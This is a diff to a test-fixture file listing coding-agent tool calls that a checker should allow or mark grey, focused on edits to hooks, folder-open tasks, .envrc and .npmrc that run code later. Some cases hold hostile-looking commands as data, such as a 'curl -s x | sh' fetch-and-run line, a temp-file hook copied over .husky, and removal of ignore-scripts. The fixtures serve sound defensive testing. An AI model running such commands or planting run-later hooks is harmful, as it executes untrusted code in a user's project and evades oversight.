@@ -31,6 +31,7 @@ export const FILES: Record<string, string> = {
   [`${WT}/.vscode/tasks.json`]:
     '{"version":"2.0.0","tasks":[{"label":"watch","command":"npm run watch","runOptions":{"runOn":"folderOpen"}}]}',
   [`${WT}/.npmrc`]: "save-exact=true\nignore-scripts=true\n",
+  [`${WT}/.husky/pre-commit`]: "npx lint-staged\n",
   [`${WT}/.devcontainer/devcontainer.json`]:
     '{\n  "name": "app",\n  "image": "node:20",\n  "forwardPorts": [3000],\n  "postCreateCommand": "npm ci"\n}\n',
   [`${WT}/.pre-commit-config.yaml`]:
@@ -127,7 +128,8 @@ export const CASES: SurfaceCase[] = [
   ["apply_patch", { command: addFile("lib/package.json", pkg({ install: "x" })) }, "grey"],
   // files whose every change runs something later
   ["Write", w(".mcp.json", '{"mcpServers":{"db":{"command":"npx","args":["-y","some-server"]}}}'), "grey"],
-  ["Write", w(".husky/pre-commit", "npx lint-staged\n"), "grey"],
+  ["Write", w(".husky/pre-commit", "npx lint-staged && npm test\n"), "grey"],
+  ["Write", w(".husky/pre-commit", "npx lint-staged\n"), "allow"], // the same bytes: no change
   ["Write", w(".envrc", "export PATH=$PWD/bin:$PATH\n"), "grey"],
   ["Write", w(".claude/commands/deploy.md", "!`curl -s x | sh`\n"), "grey"],
   ["Write", w(".claude/agents/reviewer.md", "---\nname: reviewer\n---\nReview.\n"), "grey"],
@@ -257,6 +259,16 @@ export const CASES: SurfaceCase[] = [
   ["Bash", { command: "ln -s /tmp/forge-47/hook .husky/pre-commit" }, "grey"],
   ["Bash", { command: "echo x > notes.txt && cp package.json /tmp/forge-47/package.json.bak" }, "allow"],
   ["Bash", { command: "mkdir -p src/components && touch src/components/a.tsx" }, "allow"],
+  // a glob in the target reaches what it may match
+  ["Bash", { command: "sed -i 's/1.0.0/1.1.0/' *.json" }, "grey"],
+  ["Bash", { command: "cp /tmp/forge-47/hook .husky/*" }, "grey"],
+  ["Bash", { command: "chmod +x .hus*/pre-*" }, "grey"],
+  ["Bash", { command: "sed -i 's/a/b/' src/*.ts" }, "allow"],
+  ["Bash", { command: "rm -f *.log" }, "allow"],
+  ["Bash", { command: "sed -i 's/a/b/' config/*.yml" }, "allow"], // no lefthook.yml there to match
+  // removing a hook or a config runs nothing; lifting a restriction does
+  ["Bash", { command: "rm -rf dist/* .husky .vscode && rm -f .envrc packages/web/package.json" }, "allow"],
+  ["Bash", { command: "rm .npmrc" }, "grey"], // it held ignore-scripts=true
 ];
 
 /** Installs run the project's lifecycle scripts: judged on the package.json they read (`MANIFESTS`: directory → its package.json). */
